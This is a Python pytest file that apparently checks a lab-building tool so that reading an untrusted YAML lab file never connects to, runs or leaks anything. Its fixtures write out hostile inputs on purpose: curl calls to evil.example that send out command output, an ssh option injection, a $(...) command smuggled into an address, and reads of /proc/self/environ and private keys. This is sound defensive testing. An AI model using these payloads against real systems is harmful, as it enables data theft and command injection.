"""`validate`, `plan` and `graph` of a stranger's lab file open, connect to and run nothing that its reader would not
expect: an audit hook (PEP 578) in the process tells of everything that they do."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

EVIL = "evil.example"
"""What a hostile file names. No name with this in it may be looked up, connected to or given to a program."""

SECRET = "s3cret-of-the-environment"

CHILD = r"""
import json, os, sys
told, kinds = [], ("open", "os.exec", "os.posix_spawn", "os.system", "subprocess.Popen", "pty.spawn")
def hook(name, args):
    if name in kinds or name.startswith(("socket.connect", "socket.get", "socket.send", "socket.bind")):
        if name == "open" and isinstance(args[0], int):
            return
        told.append([name, [each if isinstance(each, (str, int)) else repr(each) for each in args]])
from nestlab.cli import main
sys.addaudithook(hook)
leave, os._exit = os._exit, sys.exit
sys.argv[0] = "nestlab"
try:
    main()
    status = 0
except SystemExit as ended:
    status = ended.code
sys.stdout.flush()
done = list(told)
with open(os.environ["TOLD"], "w") as file:
    json.dump({"status": status, "events": done}, file)
leave(0)
"""


@dataclass(frozen=True)
class Seen:
    """What a command did and said."""

    status: int
    said: str
    events: list[tuple[str, list[str | int]]]

    def of(self, *names: str) -> list[list[str | int]]:
        return [args for name, args in self.events if name.startswith(names)]

    @property
    def read(self) -> set[str]:
        """The files that were opened to be read."""
        return {str(args[0]) for args in self.of("open") if not _writes(args)}

    @property
    def written(self) -> set[str]:
        return {str(args[0]) for args in self.of("open") if _writes(args)}


def _writes(args: list[str | int]) -> bool:
    return bool(int(args[2]) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))


@dataclass(frozen=True)
class Stranger:
    """A folder with a stranger's lab file, and the home directory of who looks at it."""

    root: Path

    @property
    def folder(self) -> Path:
        return self.root / "lab"

    def run(self, *words: str, **more: str) -> Seen:
        home = self.root / "home"
        environ = {
            "PATH": os.environ["PATH"],
            "HOME": str(home),
            "TMPDIR": str(self.root / "tmp"),
            "NESTLAB_HOME": str(home / "state"),
            "NESTLAB_CACHE": str(home / "cache"),
            "NESTLAB_PVE_TOKEN": f"root@pam!x={SECRET}",
            "NESTLAB_PVE_CA": "/etc/ssl/certs/ca-certificates.crt",
            "SSH_AUTH_SOCK": str(home / "agent"),
            "AWS_SECRET_ACCESS_KEY": SECRET,
            "TOLD": str(self.root / "told.json"),
            "PYTHONDONTWRITEBYTECODE": "1",
            **more,
        }
        command = [sys.executable, "-c", CHILD, *words]
        ran = subprocess.run(command, env=environ, cwd=self.folder, capture_output=True, text=True, check=False)
        assert "Traceback" not in ran.stderr, ran.stderr
        told = json.loads((self.root / "told.json").read_text())
        return Seen(int(told["status"] or 0), ran.stdout + ran.stderr, [(name, args) for name, args in told["events"]])


@pytest.fixture
def stranger(tmp_path: Path) -> Stranger:
    made = Stranger(tmp_path)
    for folder in ("lab", "tmp", "home/.ssh", "home/cache"):
        (tmp_path / folder).mkdir(parents=True)
    for name in ("id_rsa", "id_ed25519"):
        (tmp_path / "home/.ssh" / name).write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")
        (tmp_path / "home/.ssh" / name).chmod(0o600)
    # What a user's ssh would run for any host: none of it may run.
    config = f'Host *\n  ProxyCommand touch {tmp_path}/ran-%h-%r\nMatch exec "touch {tmp_path}/ran-%n"\n  User x\n'
    (tmp_path / "home/.ssh/config").write_text(config)
    (tmp_path / "lab/disk.raw").write_bytes(b"\0" * 1024)
    (tmp_path / "lab/note").write_text("inside")
    os.mkfifo(tmp_path / "lab/fifo")
    return made


WHOLE = f"""\
lab: x
images:
  made:
    from: debian
    mirror: http://{EVIL}/debian
    packages: [curl]
    script: |
      curl http://{EVIL}/$$(id)
    files: {{/etc/motd: {{source: note}}, /etc/key: {{source: ~/.ssh/id_rsa}}}}
  own: {{file: disk.raw, cloud_init: {{runcmd: ["curl http://{EVIL}"]}}}}
  away: {{url: "https://{EVIL}/d.raw", sums: "https://{EVIL}/SHA256SUMS"}}
segments: {{wire: }}
machines:
  far: {{image: away}}
  hv1:
    hypervisor: kvm
    segments: [wire]
    machines:
      web: {{image: tiny, segments: [wire]}}
  m:
    image: made
    internet: true
    cmdline: init=/bin/{EVIL}
    setup:
      files: {{/root/aws: "${{AWS_SECRET_ACCESS_KEY}}"}}
      commands: ["curl http://{EVIL}/"]
  o: {{image: own}}
"""

ADDRESSES = {
    "api": f"on: pve://{EVIL}",
    "api as somebody": f"on: pve://root@pam!x@{EVIL}:443/node",
    "api by a default": f"on: ${{NONE:-pve://{EVIL}}}",
    "ssh": f"on: pve+ssh://root@{EVIL}",
    "ssh with a port": f"on: {{pve: 'pve+ssh://{EVIL}:2222', nodes: [a]}}",
    "a host": f"on: ssh://root@{EVIL}",
    "its libvirt": f"on: qemu+ssh://root@{EVIL}/system",
}

MISTAKES = {
    "name of a secret": f"on: pve://${{AWS_SECRET_ACCESS_KEY}}.{EVIL}",
    "another tool's address": f"on: docker://root@{EVIL}",
    "an option": f"on: pve+ssh://-oProxyCommand={EVIL}",
    "a command": f"on: pve+ssh://$(touch${{IFS}}{EVIL})@host",
    "environment": "include: /proc/self/environ",
    "pipe": "include: fifo",
    "a pipe to copy": "defaults: {setup: {files: {/x: {source: fifo}}}}",
    "a private key as a public one": "defaults: {ssh_keys: [~/.ssh/id_ed25519]}",
    "a terminal": "defaults: {ssh_keys: [/dev/tty]}",
    "a name that leads out": "segments: {../../x: }",
    "a network's folder": f"images: {{i: {{file: '/net/{EVIL}/${{AWS_SECRET_ACCESS_KEY}}', format: raw}}}}",
}

TINY = "lab: x\nmachines: {m: {image: tiny}}\n"

RUNS = {"python", "qemu-system-x86_64", "qemu-img", "sh"}
"""Programs that say what this machine can."""


def harmless(stranger: Stranger, seen: Seen) -> None:
    """No name of the stranger's leaves, no secret either; what is written is nestlab's own, and nothing else is run."""
    for name, args in seen.events:
        if name != "open":
            assert EVIL not in str(args), (name, args)
            assert SECRET not in str(args), (name, args)
    assert not seen.of("socket.get", "socket.send", "os.system", "os.exec", "pty.")
    state = str(stranger.root / "home/state/labs/x/")
    assert all(str(args[1]).startswith(state) for args in seen.of("socket.connect")), "only nestlab's own switch"
    for args in seen.of("subprocess.Popen", "os.posix_spawn"):
        words = str(args[1])
        assert str(stranger.folder) not in words, words
        program = Path(str(args[0])).name
        assert any(program.startswith(each) for each in RUNS), args
    for path in seen.written:
        inside = Path(path).is_relative_to(stranger.root / "home") or Path(path).is_relative_to(stranger.root / "tmp")
        assert inside or path in (os.devnull, "/dev/kvm"), path
    assert not [each for each in seen.read | seen.written if f"{stranger.folder}/fifo" in each]
    assert not list(stranger.root.glob("ran-*")), "the user's ssh was asked"
    assert SECRET not in seen.said


def own_files(stranger: Stranger, seen: Seen) -> set[str]:
    """What was read in the folders of the stranger and of the user."""
    places = (stranger.folder, stranger.root / "home")
    found = {path if path.startswith("/") else str(stranger.folder / path) for path in seen.read}
    state = (str(stranger.root / "home/state"), str(stranger.root / "home/cache"))
    return {
        str(Path(path).relative_to(stranger.root))
        for path in found
        if any(Path(path).is_relative_to(place) for place in places)
        and not path.startswith(state)
        and not Path(path).is_dir()
    }


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_of_a_stranger_is_told_nothing(stranger: Stranger, address: str) -> None:
    (stranger.folder / "lab.yaml").write_text(f"{TINY}{ADDRESSES[address]}\n")
    for verb, status in (("validate", 0), ("graph", 0), ("plan", 2), ("up", 2)):
        seen = stranger.run(verb, "lab.yaml")
        harmless(stranger, seen)
        assert seen.status == status, seen.said
        assert not seen.of("subprocess.Popen", "os.posix_spawn")
        assert own_files(stranger, seen) <= {"lab/lab.yaml"}
        if status:
            assert seen.said.count("error:") == 1
            assert "is named by a lab file only: nothing was sent there" in seen.said
            assert "nestlab pve trust" in seen.said or "--set on=" in seen.said


@pytest.mark.parametrize("mistake", MISTAKES)
def test_a_hostile_file_is_one_message(stranger: Stranger, mistake: str) -> None:
    (stranger.folder / "lab.yaml").write_text(f"{TINY}{MISTAKES[mistake]}\n")
    for verb in ("validate", "plan"):
        seen = stranger.run(verb, "lab.yaml")
        harmless(stranger, seen)
        assert seen.status == 2, seen.said
        assert "1 mistake in the lab file." in seen.said
        assert not seen.of("subprocess.Popen", "os.posix_spawn"), "nothing was asked of this machine"
        key = {"home/.ssh/id_ed25519"} if "private key" in mistake else set()
        assert own_files(stranger, seen) <= {"lab/lab.yaml"} | key


def test_what_a_lab_would_do_is_only_read_and_told(stranger: Stranger) -> None:
    """Its image's script, its mirror, its commands: none of it is touched before `up`, which asks for what is
    private."""
    (stranger.folder / "lab.yaml").write_text(WHOLE)
    key = str(stranger.root / "home/.ssh/id_rsa")
    for verb in ("validate", "graph", "plan"):
        seen = stranger.run(verb, "lab.yaml")
        harmless(stranger, seen)
        assert seen.status == 0, seen.said
        # What is to be copied must be there, and `plan` needs its digest; what is in it stays here.
        copied = {"lab/note", "home/.ssh/id_rsa"}
        assert own_files(stranger, seen) <= {"lab/lab.yaml", "lab/disk.raw"} | copied
        if verb != "graph":
            assert f"its machines get the file {key} (images.made.files./etc/key.source)" in seen.said
            assert "its machines get $AWS_SECRET_ACCESS_KEY (machines.m.setup.files./root/aws)" in seen.said
    told = json.loads(stranger.run("validate", "lab.yaml", "--json").said)["taken"]
    assert [(each["what"], each["private"]) for each in told] == [(key, True), ("$AWS_SECRET_ACCESS_KEY", True)]
    refused = stranger.run("up", "lab.yaml")
    harmless(stranger, refused)
    assert refused.status == 2
    assert "Lab x gives its machines what others here may not read" in refused.said
    assert "--private" in refused.said
    assert not (stranger.root / "home/state/labs/x").exists()
